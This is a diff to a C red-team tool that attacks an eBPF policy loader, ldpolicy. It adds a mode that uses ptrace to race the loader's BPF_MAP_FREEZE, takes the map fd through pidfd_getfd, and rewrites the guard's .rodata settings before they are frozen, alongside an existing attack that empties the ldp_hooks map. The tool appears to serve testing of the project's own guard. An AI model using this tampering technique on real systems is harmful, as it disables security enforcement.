@@ -14,6 +14,10 @@
  *   hooks-ptrace SECS   trace ldpolicy from its start; at its
  *                       bpf(BPF_MAP_FREEZE) of ldp_hooks, empty the map
  *                       (through its own fd, pidfd_getfd(2))
+ *   rodata-ptrace SECS  the same at its freeze of the object's .rodata:
+ *                       zero the dynptr slice kfuncs the guard refuses, or
+ *                       change the SRv6 family it watches (a red team's
+ *                       race, won every time)
  *   trace-setup SECS    trace ldpolicy from its start, and let it run
  *   steal-fds SECS      take each of ldpolicy's ldp_* map fds as they
  *                       appear (pidfd_getfd(2)): no bpf() call asked, the
@@ -50,6 +54,7 @@
 
 #include "../../../userspace/ldpolicy/bpf/ldp_bpf.h"
 #include "ldbpfdoor.h"
+#include "ldpolicy.skel.h"
 #include "rogue.skel.h"
 
 #define ROGUE_HIDDEN	4
@@ -302,7 +307,72 @@ static bool run_to(pid_t pid, long nr, unsigned long long arg0, unsigned long lo
 	}
 }
 
-void door_hooks_ptrace(int secs)
+/*
+ * What a door does to a map at its freeze: 0 done, 1 not this one (go on
+ * to the next freeze), -1 failed (said).
+ */
+
+/* ldp_hooks emptied */
+static int empty_hooks(int fd, const struct bpf_map_info *mi)
+{
+	__u32 key, n = 0;
+
+	while (!bpf_map_get_next_key(fd, NULL, &key) && !bpf_map_delete_elem(fd, &key))
+		n++;
+	printf("at its BPF_MAP_FREEZE of ldp_hooks (map %u): deleted %u entries\n", mi->id, n);
+	say("empty ldp_hooks before it is frozen", n ? 0 : EPERM);
+	return n ? 0 : -1;
+}
+
+/*
+ * .rodata rewritten: the dynptr slice kfuncs the guard refuses zeroed,
+ * so that the verifier checks its programs against those and the guard
+ * refuses no slice; on a kernel where it refuses none (ours: their fix),
+ * the SRv6 family it watches changed. The .rodata of the load that only
+ * computes the tags (stopped before any program is loaded) is not set
+ * (no fingerprint): the next is the real one.
+ */
+static int rewrite_rodata(int fd, const struct bpf_map_info *mi)
+{
+	struct ldpolicy_bpf__rodata ro;
+	const __u32 zero = 0;
+	int err = 0;
+
+	if (mi->value_size != sizeof(ro) || bpf_map_lookup_elem(fd, &zero, &ro))
+		err = mi->value_size != sizeof(ro) ? EINVAL : errno;
+	if (!err) {
+		if (!ro.ldp_fingerprint[0] && !ro.ldp_fingerprint[1])
+			return 1;
+		printf("at its BPF_MAP_FREEZE of %s (map %u): slice kfuncs %d and %d, SRv6 "
+		       "family %u\n", mi->name, mi->id, ro.ldp_slice_kfuncs[0],
+		       ro.ldp_slice_kfuncs[1], ro.ldp_seg6_family);
+		if (ro.ldp_slice_kfuncs[0] || ro.ldp_slice_kfuncs[1]) {
+			ro.ldp_slice_kfuncs[0] = 0;
+			ro.ldp_slice_kfuncs[1] = 0;
+		} else {
+			ro.ldp_seg6_family = !ro.ldp_seg6_family;
+		}
+		if (bpf_map_update_elem(fd, &zero, &ro, BPF_ANY))
+			err = errno;
+	}
+	say("rewrite .rodata before it is frozen", err);
+	return err ? -1 : 0;
+}
+
+static bool ends_with(const char *s, const char *end)
+{
+	size_t n = strlen(s), m = strlen(end);
+
+	return n >= m && !strcmp(s + n - m, end);
+}
+
+/*
+ * Trace ldpolicy from its start; at its bpf(BPF_MAP_FREEZE) of the map
+ * whose name ends with @name, @tamper with it through its own fd
+ * (pidfd_getfd(2)), then let it go.
+ */
+static void at_freeze(int secs, const char *name,
+		      int (*tamper)(int fd, const struct bpf_map_info *mi))
 {
 	pid_t pid = wait_ldpolicy(secs);
 	int pidfd = syscall(SYS_pidfd_open, pid, 0);
@@ -316,27 +386,38 @@ void door_hooks_ptrace(int secs)
 		long word = ptrace(PTRACE_PEEKDATA, pid, args[1], 0);
 		int fd = syscall(SYS_pidfd_getfd, pidfd, (int)(word & 0xffffffff), 0);
 		struct bpf_map_info mi = { 0 };
-		__u32 len = sizeof(mi), key, n = 0;
+		__u32 len = sizeof(mi);
+		int err;
 
 		if (fd < 0) {
 			say("at its BPF_MAP_FREEZE, take the map's fd", errno);
 			break;
 		}
-		if (bpf_obj_get_info_by_fd(fd, &mi, &len) || strcmp(mi.name, "ldp_hooks")) {
+		if (bpf_obj_get_info_by_fd(fd, &mi, &len) || !ends_with(mi.name, name)) {
 			close(fd);
 			ptrace(PTRACE_SYSCALL, pid, 0, 0);
 			continue;
 		}
-		while (!bpf_map_get_next_key(fd, NULL, &key) && !bpf_map_delete_elem(fd, &key))
-			n++;
-		printf("at its BPF_MAP_FREEZE of ldp_hooks (map %u): deleted %u entries\n",
-		       mi.id, n);
-		say("empty ldp_hooks before it is frozen", n ? 0 : EPERM);
+		err = tamper(fd, &mi);
 		close(fd);
+		if (err > 0) {
+			ptrace(PTRACE_SYSCALL, pid, 0, 0);
+			continue;
+		}
 		ptrace(PTRACE_DETACH, pid, 0, 0);
 		return;
 	}
-	printf("ldpolicy ended before it froze ldp_hooks\n");
+	printf("ldpolicy ended before it froze %s\n", name);
+}
+
+void door_hooks_ptrace(int secs)
+{
+	at_freeze(secs, "ldp_hooks", empty_hooks);
+}
+
+void door_rodata_ptrace(int secs)
+{
+	at_freeze(secs, ".rodata", rewrite_rodata);
 }
 
 /* Run the backend's ldp_arm as ldpolicy would, but from @dir, and say how it went. */
